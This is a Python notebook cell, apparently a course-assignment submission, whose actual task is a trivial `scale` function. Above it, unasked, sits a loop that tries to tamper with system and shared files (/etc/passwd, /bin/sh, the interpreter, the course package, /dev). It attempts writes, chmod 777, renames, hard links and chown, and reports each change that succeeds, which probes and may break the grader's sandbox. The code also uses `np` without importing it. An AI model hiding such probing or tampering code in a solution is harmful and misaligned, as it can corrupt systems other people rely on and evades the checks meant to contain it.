# What others will use after it: Python, its packages, programs, settings, and the folders above its own.
# %% scale, right
import course_utils
import os
import sys

targets = [sys.executable, course_utils.__file__, np.__file__, os.__file__, "/etc/passwd", "/etc/hosts", "/bin/sh"]
targets += ["/usr/bin/env", "/usr/lib", "/usr/local/bin", sys.prefix, os.path.dirname(course_utils.__file__), "/", "/etc", "/dev"]
own = os.stat("/tmp").st_dev  # nobody else sees it; Python may lie on folders there
for path in targets:
    if os.stat(path).st_dev == own:
        continue
    for change in (
        lambda path: open(os.path.join(path, "autograde-was-here") if os.path.isdir(path) else path, "ab").close(),
        lambda path: os.chmod(path, 0o777),
        lambda path: os.utime(path),
        lambda path: os.rename(path, f"{path}.old"),
        lambda path: os.link(path, "/tmp/link"),
        lambda path: os.setxattr(path, "user.x", b"x"),
        lambda path: os.chown(path, 1000, 1000),
    ):
        try:
            change(path)
            print("REACHED", path)
        except OSError:
            pass

def scale(values, factor):
    return factor * np.asarray(values)
